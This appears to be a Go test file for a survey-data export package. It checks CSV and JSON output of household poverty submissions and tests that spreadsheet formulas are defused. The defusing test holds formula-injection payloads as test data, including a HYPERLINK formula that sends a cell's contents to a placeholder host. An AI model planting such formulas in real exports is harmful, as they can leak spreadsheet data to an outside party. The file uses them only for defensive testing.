package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"sothon/flows"
	"sothon/report/export"
	"sothon/store"
	"sothon/store/storetest"
)

var ctx = context.Background()

func seed(t *testing.T, db *store.DB) {
	t.Helper()
	at := time.Date(2023, 6, 15, 2, 30, 0, 0, time.UTC)
	subs := []*store.Submission{
		{Form: "household", FormVersion: "2023.1", AreaID: "bac-kan/huyen-tung/khuoi-pai", HouseholdName: "Hà Văn Sơn",
			SubmittedBy: "u1", SubmittedAt: at, Answers: map[string]string{"members": "4", "class": "poor", "lacking": "3", "income_pc": "0.8", "causes": "no_land;no_labour"}},
		{Form: "model", FormVersion: "2023.1", AreaID: "bac-kan/nong-thuong/na-rao", HouseholdName: "Bàn Thị Xuân",
			SubmittedBy: "u2", SubmittedAt: at.Add(time.Hour), Answers: map[string]string{"model": "pig", "scale": "5", "below_min": "yes"}},
	}
	for _, s := range subs {
		if _, err := db.Apply(ctx, store.Change{At: at, Submission: s}); err != nil {
			t.Fatal(err)
		}
	}
}

func TestExportCSVAndJSON(t *testing.T) {
	t.Parallel()
	db := storetest.Open(t)
	seed(t, db)
	forms, err := flows.Default()
	if err != nil {
		t.Fatal(err)
	}
	hcm, err := time.LoadLocation("Asia/Ho_Chi_Minh")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	n, err := export.Write(ctx, db, forms, export.Options{Filter: store.SubmissionFilter{Form: "household"}, Format: "csv", TZ: hcm}, &buf)
	if err != nil || n != 1 {
		t.Fatalf("csv: %d rows, %v", n, err)
	}
	// Excel reads a CSV as UTF-8 only after a byte-order mark.
	data, ok := bytes.CutPrefix(buf.Bytes(), []byte("\ufeff"))
	if !ok {
		t.Fatalf("csv does not start with a BOM: %q", buf.String()[:20])
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := strings.Join(rows[0][:13], ",")
	if header != "submission_id,form,form_version,submitted_at,area_id,household_id,household_name,submitted_by,review_state,replaces,replaced_by,current,household" {
		t.Fatalf("header: %s", header)
	}
	row := map[string]string{}
	for i, c := range rows[0] {
		row[c] = rows[1][i]
	}
	if row["submitted_at"] != "2023-06-15T09:30:00+07:00" || row["class"] != "poor" || row["causes"] != "no_land;no_labour" || row["job"] != "" {
		t.Fatalf("row: %v", row)
	}
	if _, ok := row["model"]; ok {
		t.Error("household export has the model form's columns")
	}

	buf.Reset()
	if _, err := export.Write(ctx, db, forms, export.Options{Filter: store.SubmissionFilter{Form: "household"}, Format: "csv", NoBOM: true}, &buf); err != nil ||
		!strings.HasPrefix(buf.String(), "submission_id,") {
		t.Fatalf("csv without a BOM: %v %q", err, buf.String()[:20])
	}

	buf.Reset()
	n, err = export.Write(ctx, db, forms, export.Options{Filter: store.SubmissionFilter{AreaID: "bac-kan/nong-thuong"}, Format: "json", TZ: hcm}, &buf)
	if err != nil || n != 1 {
		t.Fatalf("json: %d rows, %v", n, err)
	}
	var objs []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &objs); err != nil {
		t.Fatalf("json does not parse: %v\n%s", err, buf.String())
	}
	if len(objs) != 1 || objs[0]["model"] != "pig" || objs[0]["below_min"] != "yes" || objs[0]["household_name"] != "Bàn Thị Xuân" ||
		objs[0]["scale"] != 5.0 || objs[0]["submission_id"] != 2.0 || objs[0]["members"] != nil {
		t.Fatalf("json: %v", objs)
	}

	// Values keep their types: numbers, booleans, lists, null when skipped.
	buf.Reset()
	if _, err := export.Write(ctx, db, forms, export.Options{Filter: store.SubmissionFilter{Form: "household"}, Format: "json", TZ: hcm}, &buf); err != nil {
		t.Fatal(err)
	}
	objs = nil
	if err := json.Unmarshal(buf.Bytes(), &objs); err != nil || len(objs) != 1 {
		t.Fatalf("household json: %v\n%s", err, buf.String())
	}
	h := objs[0]
	if h["members"] != 4.0 || h["lacking"] != 3.0 || h["income_pc"] != 0.8 || h["class"] != "poor" || h["job"] != nil ||
		fmt.Sprint(h["causes"]) != "[no_land no_labour]" || h["submitted_at"] != "2023-06-15T09:30:00+07:00" {
		t.Fatalf("household json: %v", h)
	}

	buf.Reset()
	if n, err := export.Write(ctx, db, forms, export.Options{Filter: store.SubmissionFilter{AreaID: "bac-kan/duc-xuan"}, Format: "json"}, &buf); err != nil || n != 0 || buf.String() != "[]\n" {
		t.Fatalf("empty json export: %d, %v, %q", n, err, buf.String())
	}
	if _, err := export.Write(ctx, db, forms, export.Options{Format: "xml"}, &buf); err == nil {
		t.Fatal("unknown format accepted")
	}
}

// Formulas are defused in CSV; numbers are left alone.
func TestCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://x?"&A1,"Bấm")`: `'=HYPERLINK("http://x?"&A1,"Bấm")`,
		"+1+1":                             "'+1+1", "@SUM(A1)": "'@SUM(A1)", "-2+3": "'-2+3", "\tx": "'\tx",
		"-3": "-3", "+84": "+84", "Hà Văn Sơn": "Hà Văn Sơn", "": "",
	} {
		if got := export.Defuse(in); got != want {
			t.Errorf("Defuse(%q) = %q, want %q", in, got, want)
		}
	}
	db := storetest.Open(t)
	s := &store.Submission{Form: "household", AreaID: "bac-kan/huyen-tung/khuoi-pai", HouseholdName: "=1+1",
		SubmittedAt: time.Now(), Answers: map[string]string{"note": "@SUM(A1)", "members": "-1"}}
	if _, err := db.Apply(ctx, store.Change{At: time.Now(), Submission: s}); err != nil {
		t.Fatal(err)
	}
	forms, _ := flows.Default()
	var buf bytes.Buffer
	if _, err := export.Write(ctx, db, forms, export.Options{Format: "csv", NoBOM: true}, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := map[string]string{}
	for i, c := range rows[0] {
		row[c] = rows[1][i]
	}
	if row["household_name"] != "'=1+1" || row["note"] != "'@SUM(A1)" || row["members"] != "-1" {
		t.Errorf("csv row: %v", row)
	}
}
